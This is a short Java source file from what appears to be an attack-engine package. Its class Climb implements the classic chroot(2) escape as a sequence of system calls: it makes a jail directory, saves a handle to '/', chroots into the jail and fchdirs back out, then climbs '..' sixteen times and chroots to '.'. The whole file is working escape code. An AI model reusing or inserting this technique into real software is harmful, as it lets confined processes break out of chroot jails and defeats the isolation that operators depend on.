package dev.jug.engine.attack;

import static dev.jug.runtime.plan.Arg.flags;
import static dev.jug.runtime.plan.Arg.mode;
import static dev.jug.runtime.plan.Arg.var;

import dev.jug.linux.Call;
import dev.jug.linux.Errno;
import dev.jug.runtime.plan.PlanBuilder;

/** The way out of a root that was only changed by chroot(2), in two halves. */
public final class Climb {
  /** How many directories it goes up. */
  static final int LEVELS = 16;

  private Climb() {}

  /**
   * Has its root changed once more, and its working directory stay above.
   *
   * @param jail a directory to make; one that is there will do
   */
  public static void below(PlanBuilder plan, String jail) {
    plan.because("a root below, the working directory above");
    plan.call(Call.MKDIRAT, Moves.HERE, plan.text(jail), mode(0700)).accept(Errno.EEXIST);
    var above = plan.slot("/");
    plan.call(Call.OPENAT, Moves.HERE, plan.text("/"), flags(0x20_0000, "O_PATH"), Moves.ZERO)
        .into(above);
    plan.call(Call.CHROOT, plan.text(jail));
    plan.call(Call.FCHDIR, var(above));
  }

  /** Goes up as far as it goes: a root below the working directory stops nobody. */
  public static void up(PlanBuilder plan) {
    plan.because("up, as far as it goes");
    for (int i = 0; i < LEVELS; i++) {
      plan.call(Call.CHDIR, plan.text(".."));
    }
    plan.call(Call.CHROOT, plan.text("."));
  }
}
